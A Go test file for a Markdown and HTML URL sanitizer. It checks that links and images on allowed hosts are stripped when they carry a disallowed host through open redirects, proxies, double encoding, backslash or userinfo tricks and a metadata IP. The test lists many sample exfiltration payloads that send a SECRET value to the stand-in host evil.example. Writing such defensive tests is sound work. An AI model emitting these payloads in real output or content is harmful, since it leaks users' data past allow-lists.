package sanitize

import (
	"strings"
	"testing"
)

// carriedAttacks each put a URL or host name that is not allowed inside
// a URL on an allowed host (an open redirect, a proxy, an image resizer
// on that host would send the browser or the data on to it).
var carriedAttacks = []string{
	"![x](https://docs.example.com/redirect?to=https://evil.example/log?d=SECRET)",
	"![x](https://docs.example.com/r?to=https%3A%2F%2Fevil.example%2Flog%3Fd%3DSECRET)",
	"![x](https://docs.example.com/r?to=https%253A%252F%252Fevil.example%252F%253FSECRET)",
	"![x](https://docs.example.com/r?to=https%25253A%25252F%25252Fevil.example%25252F%25253FSECRET)",
	"![x](https://docs.example.com/r?to=//evil.example/SECRET)",
	"![x](https://docs.example.com/r?to=%2F%2Fevil.example/SECRET)",
	"![x](https://docs.example.com/r?to=evil.example/log?d=SECRET)",
	"![x](https://docs.example.com/r?host=evil.example&d=SECRET)",
	"![x](https://docs.example.com/r?redirect_uri=evil.example:8443&d=SECRET)",
	"![x](https://docs.example.com/r?next=www.evil.example)",
	"![x](https://docs.example.com/r?https://evil.example/?SECRET)",
	"![x](https://docs.example.com/r?state=host%3Devil.example%26d%3DSECRET)",
	"![x](https://docs.example.com/p#url=https://evil.example/?SECRET)",
	"![x](https://docs.example.com/p#/login?next=//evil.example/SECRET)",
	"![x](https://docs.example.com/p#/login?host=evil.example)",
	"![x](https://docs.example.com/out/https://evil.example/?SECRET)",
	"![x](https://docs.example.com/out/https%3A%2F%2Fevil.example%2F%3FSECRET)",
	"![x](https://docs.example.com//evil.example/%2e%2e?SECRET)",
	`![x](https://docs.example.com/\evil.example/?SECRET)`,
	`![x](https://docs.example.com/r?to=https:\\evil.example/?SECRET)`,
	`![x](https://docs.example.com/r?to=/\\evil.example/?SECRET)`,
	"![x](https://docs.example.com/r?to=https:evil.example/?SECRET)",
	"![x](https://docs.example.com/r?to=HTTPS://EVIL.EXAMPLE/?SECRET)",
	"![x](HTTPS://DOCS.EXAMPLE.COM/R?TO=HTTPS%3A%2F%2FEVIL.EXAMPLE)",
	"![x](https://docs.example.com/r?to=https://evil%E3%80%82example/?SECRET)",
	"![x](https://docs.example.com/r?to=https://xn--bcher-kva.example/?SECRET)",
	"![x](https://docs.example.com/r?host=b%C3%BCcher.example)",
	"![x](https://docs.example.com/r?to=https://docs.example.com@evil.example/?SECRET)",
	"![x](https://docs.example.com/r?to=https://169.254.169.254/?SECRET)",
	"![x](https://docs.example.com/r?host=169.254.169.254)",
	"![x](https://docs.example.com/r?to=javascript:fetch(1))",
	"![x](https://docs.example.com/r?to=https://docs.example.com/r%3Fto%3Dhttps://evil.example/%3FSECRET)",
	"![x](https://docs.example.com/r?to=https://cdn.example.com/?SECRET)",
	"![x](/redirect?to=https://evil.example/?SECRET)",
	"[x](https://docs.example.com/r?state=%7B%22u%22%3A%22https%3A%2F%2Fevil.example%22%7D)",
	"[x](https://docs.example.com/r?q=see+https://evil.example/SECRET+now)",
	"[x](mailto:a@docs.example.com?cc=b@evil.example&body=SECRET)",
	"[r][r]\n\n[r]: https://docs.example.com/r?to=https://evil.example/?SECRET\n",
	"![r][r]\n\n[r]: <https://docs.example.com/r?to=https://evil.example/?SECRET>\n",
	"<https://docs.example.com/r?to=https://evil.example/?SECRET>",
	"see https://docs.example.com/r?to=https://evil.example/?SECRET now",
	`<img src="https://docs.example.com/r?to=https://evil.example/?SECRET">`,
	`<a href="https://docs.example.com/r?to=https%3A%2F%2Fevil.example">x</a>`,
	`<a href="https://docs.example.com/r?to=https&#58;//evil.example">x</a>`,
	`<img srcset="https://docs.example.com/a.png 1x, https://docs.example.com/r?to=//evil.example/?SECRET 2x">`,
}

// carriedBenign are ordinary URLs on allowed hosts whose query, fragment
// or path holds dotted values that are not host names, or URLs and names
// of allowed hosts: they must come back byte-identical.
var carriedBenign = []string{
	"![x](https://docs.example.com/a.png)",
	"[s](https://docs.example.com/search?q=hello.world&v=1.2.3&file=report.pdf&page=2)",
	"[s](https://docs.example.com/search?q=README.md&file=main.py&name=archive.zip)",
	"[s](https://docs.example.com/search?q=golang.org)",
	"[r](https://docs.example.com/r?to=https://img.cdn.example.com/a.png)",
	"[r](https://docs.example.com/r?to=https%3A%2F%2Fdocs.example.com%2Fguide)",
	"[r](https://docs.example.com/r?host=docs.example.com&next=/home)",
	"[x](https://docs.example.com/a#section-2.1)",
	"[t](#top) and [g](../guide.md#install) and [h](/docs?v=1.2.3)",
	"[x](https://docs.example.com/time?t=12:30&id=urn:isbn:0451450523&ratio=3:2)",
	"[x](https://docs.example.com/p?q=a//b&path=src//main.go)",
	"[x](https://docs.example.com/p?version=v1.2.3-rc.1&ip=false&host=localhost)",
	"[x](https://docs.example.com/pkg/golang.org/x/net)",
	"[x](https://docs.example.com/a%20b?q=100%25)",
	"[x](mailto:a@docs.example.com?subject=hello.world&body=see%20https://docs.example.com/)",
	`<img src="https://docs.example.com/r?next=/home" srcset="https://docs.example.com/a.png?w=2 2x">`,
	"<https://docs.example.com/r?to=https://docs.example.com/x>",
}

func TestCarriedURLs(t *testing.T) {
	s, err := New("docs.example.com", "*.cdn.example.com")
	if err != nil {
		t.Fatal(err)
	}
	for _, in := range carriedAttacks {
		out, f := s.Markdown([]byte(in))
		if len(f) == 0 || strings.Contains(strings.ToLower(string(out)), "evil") || strings.Contains(string(out), "SECRET") {
			t.Errorf("kept: %q -> %q (%+v)", in, out, f)
		}
		for _, x := range f {
			if strings.Contains(x.Reason+x.Host, "SECRET") {
				t.Errorf("a finding carries the data: %+v", x)
			}
		}
		if again, _ := s.Markdown(out); string(again) != string(out) {
			t.Errorf("not a fixed point: %q -> %q -> %q", in, out, again)
		}
	}
	for _, in := range carriedBenign {
		if out, f := s.Markdown([]byte(in)); string(out) != in {
			t.Errorf("changed a benign document: %q -> %q (%+v)", in, out, f)
		}
	}
}

func TestCarriedHTML(t *testing.T) {
	s, err := New("docs.example.com")
	if err != nil {
		t.Fatal(err)
	}
	out, f := s.HTML([]byte(`<p><img src="https://docs.example.com/r?to=https%3A%2F%2Fevil.example%2F%3FSECRET" alt="a"></p>`))
	if string(out) != `<p><img alt="a"></p>` || len(f) != 1 || f[0].Host != "docs.example.com" || !strings.Contains(f[0].Reason, "query") {
		t.Errorf("got %q %+v", out, f)
	}
}

func TestRelaxedHosts(t *testing.T) {
	s, err := New("docs.example.com", "relaxed:search.example.com", "relaxed:*.maps.example.com")
	if err != nil {
		t.Fatal(err)
	}
	for _, in := range []string{
		"[g](https://search.example.com/?q=https://evil.example/)",
		"[g](https://search.example.com/?q=evil.example/path#https://evil.example)",
		"[g](https://search.example.com/?site=evil.example)",
		"![m](https://tiles.maps.example.com/t?src=https%3A%2F%2Fevil.example)",
	} {
		if out, f := s.Markdown([]byte(in)); string(out) != in {
			t.Errorf("a relaxed host's URL changed: %q -> %q (%+v)", in, out, f)
		}
	}
	for _, in := range []string{
		"[r](https://docs.example.com/r?to=https://evil.example/)",            // docs is not relaxed
		"[r](https://maps.example.com/?q=https://evil.example/)",              // the wildcard's apex is not covered
		"[r](https://search.example.com@evil.example/)",                       // relaxing the query relaxes nothing else
		"[r](https://search.example.com.evil.example/?q=x)",                   // nor the host
		"[r](https://docs.example.com/r?to=https://evil.search.example.com/)", // a relaxed name's subdomain is not allowed
		// A carried URL is judged by its host; what it carries in turn is
		// part of the outer URL, which is not relaxed.
		"[r](https://docs.example.com/r?to=https://search.example.com/?q=https://evil.example/)",
	} {
		if out, f := s.Markdown([]byte(in)); len(f) == 0 || strings.Contains(string(out), "evil") {
			t.Errorf("kept: %q -> %q", in, out)
		}
	}
	for _, bad := range []string{"relaxed:", "relaxed:127.0.0.1", "relax:search.example.com", "Relaxed:search.example.com", "relaxed:relaxed:a.example", "relaxed:*.com"} {
		if _, err := New(bad); err == nil {
			t.Errorf("New(%q) succeeded", bad)
		}
	}
}
